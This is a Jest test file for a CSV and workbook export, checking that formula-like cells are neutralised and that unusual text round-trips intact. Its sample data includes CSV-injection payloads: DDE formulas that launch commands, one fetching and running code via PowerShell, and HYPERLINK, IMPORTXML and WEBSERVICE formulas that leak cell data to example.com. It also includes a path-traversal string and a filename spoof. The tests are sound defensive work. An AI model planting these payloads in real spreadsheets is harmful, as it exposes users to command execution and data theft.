import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import { writeCsv, type Columns } from './csv.js';
import { MAX_CHARACTERS } from './workbook/text.xml.js';
import { WorkbookWriter } from './workbook/workbook.writer.js';

/** Text that begins like a formula. */
const FORMULAS = {
  equals: '=1+1',
  plus: '+62 812 3456',
  minus: '-5',
  'minus before a formula': '-2+3+cmd|" /C calc"!A0',
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
  'dynamic data exchange': "=cmd|'/C powershell IEX(wget example.com)'!A0",
  'dynamic data exchange by name': '=DDE("cmd";"/C calc";"x")',
  'plus before dynamic data exchange': '+cmd|" /C notepad"!A1',
  'a link that leaks': '=HYPERLINK("https://example.com/?"&A1&A2,"Error: click")',
  'an import that leaks': '=IMPORTXML(CONCAT("https://example.com/?", A1), "//a")',
  'a web service': '=WEBSERVICE("https://example.com/?"&A1)',
  'a formula in another language': '=SUMME(A1;A2)',
  'a formula under quotes': '="=1+1"',
  'a formula with the delimiters': '=1+1;,"=1+1"',
  'a formula over lines': '=1+\r\n1',
  tab: '\t=1+1',
  'tab alone': '\tx',
  'carriage return': '\r=1+1',
  'carriage return and line feed': '\r\n=1+1',
  'full-width equals': '＝1+1',
  'full-width plus': '＋1+1',
  'full-width minus': '－1+1',
  'full-width at': '＠SUM(1)',
  'many signs': '=+-@1',
  'an amount that is text': '-50000',
};

/** Looks dangerous or gets damaged, but is not a formula to a spreadsheet. */
const TEXTS = {
  'line feed first': '\n=1+1',
  'a space first': ' =1+1',
  'a no-break space first': '\u00A0=1+1',
  'a zero-width space first': '\u200B=1+1',
  'a word joiner first': '\u2060=1+1',
  'a byte order mark first': '\uFEFF=1+1',
  'a right-to-left mark first': '\u200F=1+1',
  'a combining mark first': '\u0301=1+1',
  'a quote first': '"=1+1',
  'an apostrophe first': "'=1+1",
  'two apostrophes first': "''=1+1",
  'a minus of Unicode': '\u22121+1',
  'a dash': '\u20131+1',
  'a small equals sign': '\uFE661+1',
  'a superscript plus': '\u207A1',
  'a formula inside': 'a=1+1',
  'an array': '{=1+1}',
  'a pipe': 'cmd|calc',
  'a formula after a line': 'a\n=1+1',
  'a formula after a delimiter': 'a;=1+1,=1+1',
  quotes: 'say ""twice"" and "once"',
  'one quote': '"',
  delimiters: 'a,b;c\td|e',
  'lines of every kind': 'a\nb\r\nc\rd',
  'a line at the end': 'a\r\n',
  'outer spaces': '  a  ',
  'spaces alone': '   ',
  'right-to-left override': 'invoice\u202Egpj.exe',
  'Arabic and Hebrew': 'مرحبا שלום',
  'bidi isolates': '\u2066a\u2067b\u2069',
  emoji: '😀👨‍👩‍👧‍👦🇮🇩👍🏽',
  'combining marks': `e\u0301 Z${'\u0351'.repeat(50)}`,
  'characters beyond the first plane': '𝟙𠜎',
  'a NUL': 'a\0b',
  'control characters': '\x01\x02\x07\x08\x0B\x0C\x0E\x1B\x1F\x7F\x80\x9F',
  'what is no character': '\uFFFE\uFFFF',
  'line and paragraph separators': 'a\u2028b\u2029c\u0085d',
  markup: '<script>alert("x")</script>&amp;&#13;]]>',
  'an escape of Excel': '_x0041_ _x000D_',
  'ten thousand characters': 'x'.repeat(10_000),
  'all that a cell can hold': 'y'.repeat(MAX_CHARACTERS),
  'sixteen digits': '1234567890123456',
  'nineteen digits': '9223372036854775807',
  'digits with zeros before': '0012345678901234567890',
  zeros: '007',
  'a date': '1-2',
  'another date': '3/4',
  'a date of the world': '2026-11-23',
  'a month': 'MAR1',
  'a time': '12:30',
  true: 'TRUE',
  false: 'false',
  'a power': '1E5',
  'a power of zero': '0e0',
  hexadecimal: '0x1F',
  'per cent': '12%',
  money: 'Rp 50.000,00',
  decimals: '1.10',
  'a decimal comma': '1,10',
  infinity: 'Infinity',
  'an error of Excel': '#REF!',
  'an error of a sheet': '#N/A',
  null: 'null',
  'a path': '../../etc/passwd',
};

const ALL = { ...FORMULAS, ...TEXTS };

interface Row {
  text: string;
  amount: bigint;
}

const COLUMNS: Columns<Row> = [
  ['text', (row) => row.text],
  ['between', () => 'x'],
  ['amount', (row) => row.amount],
];

describe('hostile cells', () => {
  let folder: string;
  let files = 0;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'hostile-'));
  });
  afterAll(() => rm(folder, { recursive: true }));

  /** The values that other readers read in the CSV and in its twin. */
  const readBack = async (texts: readonly string[], delimiter = ',') => {
    files += 1;
    const [csv, xlsx] = [join(folder, `${files}.csv`), join(folder, `${files}.xlsx`)];
    const properties = { title: 'hostile', creator: 'test', at: new Date(0) };
    const workbook = new WorkbookWriter(xlsx, { language: 'en', properties });
    async function* rows() {
      yield texts.map((text, index) => ({ text, amount: BigInt(-index) }));
    }
    await writeCsv(csv, COLUMNS, rows(), { delimiter, twin: workbook.sheet('hostile') });
    await workbook.close();
    // Like spreadsheets, which end a row at any of them.
    const record_delimiter = ['\r\n', '\n', '\r'];
    const records = parse(await readFile(csv), { bom: true, delimiter, record_delimiter });
    const sheet = await readSheet(xlsx, 'hostile', { trim: false });
    expect(records).toHaveLength(texts.length + 1);
    expect(sheet).toHaveLength(texts.length + 1);
    expect([records[0], sheet[0]]).toEqual([COLUMNS.map(([header]) => header), records[0]]);
    expect(records.slice(1).map((cells) => cells.slice(1))).toEqual(texts.map((_, i) => ['x', `${-i}`]));
    expect(sheet.slice(1).map((cells) => cells.slice(1))).toEqual(texts.map((_, i) => ['x', 0 - i]));
    return {
      csv,
      inCsv: records.slice(1).map(([text]) => text!),
      inWorkbook: sheet.slice(1).map(([text]) => text),
    };
  };

  it.each([',', ';'])('come back from a CSV with %j, formulas behind one apostrophe', async (delimiter) => {
    const { inCsv } = await readBack(Object.values(ALL), delimiter);
    expect(Object.fromEntries(Object.keys(ALL).map((name, index) => [name, inCsv[index]]))).toEqual({
      ...Object.fromEntries(Object.entries(FORMULAS).map(([name, text]) => [name, `'${text}`])),
      ...TEXTS,
    });
  });

  it.each([',', ';'])(
    'stay in their columns for a spreadsheet that splits at commas, semicolons and tabs at once (%j)',
    async (delimiter) => {
      const { csv } = await readBack(Object.values(ALL), delimiter);
      const record_delimiter = ['\r\n', '\n', '\r'];
      const records = parse(await readFile(csv), {
        bom: true,
        delimiter: [',', ';', '\t'],
        record_delimiter,
      });
      expect(records.map(([, ...others]) => others)).toEqual([
        ['between', 'amount'],
        ...Object.keys(ALL).map((_, index) => ['x', `${-index}`]),
      ]);
      const formulas: readonly string[] = Object.values(FORMULAS);
      expect(records.slice(1).map(([text]) => text)).toEqual(
        Object.values(ALL).map((text) => (formulas.includes(text) ? `'${text}` : text)),
      );
    },
  );

  it('come back from the workbook as they are: a text needs no apostrophe', async () => {
    const { inWorkbook } = await readBack(Object.values(ALL));
    expect(Object.fromEntries(Object.keys(ALL).map((name, index) => [name, inWorkbook[index]]))).toEqual(ALL);
  });

  it('replace half a surrogate pair by U+FFFD in both', async () => {
    const halves = ['a\uD83Db', 'a\uDE00b', '\uDE00\uD83D'];
    const { inCsv, inWorkbook } = await readBack(halves);
    expect(inCsv).toEqual(['a\uFFFDb', 'a\uFFFDb', '\uFFFD\uFFFD']);
    expect(inWorkbook).toEqual(inCsv);
  });

  it('longer than a cell allows are truncated in the workbook only, with a note', async () => {
    const long = '😀'.repeat(20_000);
    const { inCsv, inWorkbook } = await readBack([long]);
    expect(inCsv).toEqual([long]);
    const [cut] = inWorkbook as [string];
    expect(cut).toMatch(/^(😀)+ … \(cut: the CSV has all of it\)$/u);
    expect(cut.length).toBeLessThanOrEqual(MAX_CHARACTERS);
    expect(cut.length).toBeGreaterThan(MAX_CHARACTERS - 3);
  });

  it('of any characters at all are the same in both', async () => {
    // Any of the 65 536 code units, including half characters, and often those with a meaning.
    const unit = fc.oneof(
      fc.constantFrom(...'=+-@\t\r\n\'",;_x0041<&>＝ '.split('')),
      fc.integer({ min: 0, max: 0xff_ff }).map((code) => String.fromCharCode(code)),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit, minLength: 1 }), { minLength: 1, maxLength: 50 }),
        async (texts) => {
          const { inCsv, inWorkbook } = await readBack(texts);
          const wellFormed = texts.map((text) => Buffer.from(text).toString());
          expect(inWorkbook).toEqual(wellFormed);
          expect(inCsv).toEqual(
            wellFormed.map((text) => (/^[=+\-@\t\r＝＋－＠]/.test(text) ? `'${text}` : text)),
          );
        },
      ),
      { numRuns: 50 },
    );
  });
});
